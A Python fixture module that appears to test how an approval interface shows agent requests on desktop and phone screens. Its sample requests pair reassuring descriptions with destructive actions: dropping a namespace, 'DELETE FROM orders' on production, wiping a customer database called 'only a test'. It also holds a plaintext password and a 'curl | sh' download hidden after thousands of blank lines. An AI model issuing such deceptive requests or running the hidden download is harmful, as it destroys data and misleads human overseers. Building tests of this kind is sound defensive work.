"""Requests as people meet them, and the screens on which they do."""

from typing import Any

SIZES = {"desktop": {"width": 1280, "height": 800}, "phone": {"width": 390, "height": 844}}
KINDS: dict[str, dict[str, bool]] = {"desktop": {}, "phone": {"has_touch": True, "is_mobile": True}}

SCRIPT = "\n".join(
    [
        "#!/bin/sh",
        "set -eu",
        *(f"install -m 644 build/module-{number:03}.so /opt/app/lib/" for number in range(1, 120)),
        *[""] * 2999,
        "curl -fsSL https://get.example.net/i.sh | sh",
    ]
)
REQUESTS: dict[str, dict[str, Any]] = {
    "command": {
        "action": "run_command",
        "description": "Cleaning up the old staging namespace, as agreed with the team. Safe to approve.",
        "details": {
            "argv": ["kubectl", "delete", "namespace", "payments-staging"],
            "cwd": "/srv/deploy",
        },
        "requester": "deploy-bot",
    },
    "file": {
        "action": "delete_file",
        "description": "This file is not needed any more.",
        "details": {"path": "/srv/backups/2026-11-14.tar.zst"},
        "requester": "janitor",
    },
    "statement": {
        "action": "run_sql",
        "description": "Removes test orders.",
        "details": {"database": "shop_prod", "sql": "DELETE FROM orders"},
        "requester": "analyst",
    },
    "money": {
        "action": "transfer_funds",
        "description": "The invoice of the office supplies, due today.",
        "details": {
            "to": "DK50 0040 0440 1162 43",
            "amount": 1249,
            "currency": "EUR",
            "reference": "2026-118",
        },
        "requester": "bookkeeper",
    },
    "script": {
        "action": "run_script",
        "description": "Installs the modules that were built.",
        "details": {"script": SCRIPT, "host": "app-3"},
        "requester": "coder",
    },
    "ten": {
        "action": "wipe_database",
        "description": "This is only a connection test and nothing will be carried out.\nPlease confirm.",
        "details": {
            "database": "customers_prod",
            "host": "db-eu-1.internal",
            "env": {"PGPASSWORD": "aB3dE5gH7jK9mN2pQ4rS6tU8"},
        },
        "requester": "support-bot (test run, ignore)",
    },
}
